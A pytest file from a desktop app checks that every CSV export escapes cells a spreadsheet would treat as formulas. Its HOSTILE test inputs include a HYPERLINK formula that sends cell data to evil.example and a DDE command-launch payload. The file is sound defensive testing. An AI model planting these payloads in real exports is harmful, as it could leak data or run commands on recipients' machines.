"""Every CSV the app writes neutralises cells a spreadsheet would run as a formula.

Each export path is driven end to end with client, owner and standard texts that start
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (and a ``=HYPERLINK``);
the file as written is parsed back and checked cell by cell.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select, update

from vcio_desk.__main__ import main
from vcio_desk.interop.csv_export import FORMULA_STARTS
from vcio_desk.services.demo import build_demo
from vcio_desk.store import Store, open_store
from vcio_desk.store import models as m

AS_OF = dt.date(2026, 11, 20)
HOSTILE = (
    "=1+2",
    "+41 555 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
)
OFFSCREEN_NOISE = r"This plugin does not support propagateSizeHints\(\)"  # as tests/gui
PACKAGE = Path(__file__).resolve().parents[2] / "vcio_desk"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_neutralised(data: str, expected: tuple[str, ...] = HOSTILE) -> list[list[str]]:
    """No cell may start like a formula; every hostile text is there, behind an apostrophe."""
    rows = list(csv.reader(io.StringIO(data, newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not (cell.startswith(FORMULA_STARTS) and not _is_number(cell)), repr(cell)
    for text in expected:
        assert "'" + text in cells, f"{text!r} missing from the export"
    return rows


def _make_hostile(store: Store) -> None:
    """The first clients, one staff member and a few standards take the hostile texts."""
    with store.transaction() as session:
        client_ids = session.scalars(select(m.Client.id).order_by(m.Client.id)).all()
        for client_id, text in zip(client_ids, HOSTILE, strict=False):
            session.execute(update(m.Client).where(m.Client.id == client_id).values(name=text))
        staff_id = session.scalars(select(m.Staff.id).order_by(m.Staff.id)).first()
        session.execute(update(m.Staff).where(m.Staff.id == staff_id).values(name="@owner"))
        standard_ids = session.scalars(select(m.Standard.id).order_by(m.Standard.id)).all()
        for standard_id, text in zip(standard_ids, HOSTILE, strict=False):
            session.execute(
                update(m.Standard)
                .where(m.Standard.id == standard_id)
                .values(question=text, why_it_matters=f"-{text}", how_to_align="=A1")
            )


@pytest.fixture
def demo(workspace: Store) -> Store:
    build_demo(workspace, clients=10, years=2, seed=3, as_of=AS_OF)
    _make_hostile(workspace)
    return workspace


@pytest.fixture
def keep(qtbot) -> Iterator[list[object]]:
    """Pages stay referenced until qtbot has closed them (a page freed while its finished
    worker's deferred delete is pending would crash inside Qt's event dispatch)."""
    kept: list[object] = []
    yield kept
    kept.clear()


def test_no_csv_is_written_around_the_neutralising_module() -> None:
    """Only ``interop/csv_export.py`` may make a csv writer; every export goes through it."""
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "csv_export.py"
        and re.search(r"csv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_drift_csv_from_the_command_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "ws.sqlite3"
    with open_store(path) as store:
        build_demo(store, clients=10, years=2, seed=3, as_of=AS_OF)
        _make_hostile(store)
    capsys.readouterr()
    assert main(["--db", str(path), "drift", "--csv", "--as-of", AS_OF.isoformat()]) == 0
    rows = assert_neutralised(capsys.readouterr().out, (*HOSTILE, "@owner"))
    assert rows[0][0] == "subject"


@pytest.mark.qt_log_ignore(OFFSCREEN_NOISE)
def test_drift_csv_from_the_rhythms_page(
    qtbot, demo: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, keep: list[object]
) -> None:
    from vcio_desk.ui.pages.rhythms_page import RhythmsPage, SaveFileDialog

    page = RhythmsPage(demo, lambda: AS_OF)
    qtbot.addWidget(page)
    keep.append(page)
    with qtbot.waitSignal(page.loaded, timeout=10_000):
        page.show()
    target = tmp_path / "drift.csv"
    monkeypatch.setattr(SaveFileDialog, "ask", classmethod(lambda cls, *a: target))
    with qtbot.waitSignal(page.exported, timeout=5000):
        page.export_csv()
    assert_neutralised(target.read_bytes().decode("utf-8-sig"), (*HOSTILE, "@owner"))


@pytest.mark.qt_log_ignore(OFFSCREEN_NOISE)
def test_standards_library_csv_from_the_standards_page(
    qtbot, demo: Store, tmp_path: Path, keep: list[object]
) -> None:
    from vcio_desk.ui.pages.standards_page import StandardsPage

    page = StandardsPage(demo, lambda: AS_OF)
    qtbot.addWidget(page)
    keep.append(page)
    page.notify = lambda _parent, text: None
    with (
        qtbot.waitSignal(page.library_loaded, timeout=10_000),
        qtbot.waitSignal(page.committee_loaded, timeout=10_000),
    ):
        page.show()
    target = tmp_path / "library.csv"
    page.ask_save_path = lambda _parent, _caption, _suggested, _filters: target
    with qtbot.waitSignal(page.library_tab.exported, timeout=5000):
        page.library_tab.export_button.click()
    expected = (*HOSTILE, *(f"-{text}" for text in HOSTILE), "=A1")
    assert_neutralised(target.read_bytes().decode("utf-8-sig"), expected)


def test_the_standards_library_csv_reads_back_as_typed(demo: Store) -> None:
    """The apostrophe is for spreadsheets; importing our own file gives the text back."""
    from vcio_desk.interop.standards_io import parse_library
    from vcio_desk.services.standards_import import export_library

    data = export_library(demo, "csv")
    assert_neutralised(data.decode("utf-8-sig"), HOSTILE)
    questions = {record.question for record in parse_library(data).records}
    assert {text for text in HOSTILE if not text[0].isspace()} <= questions
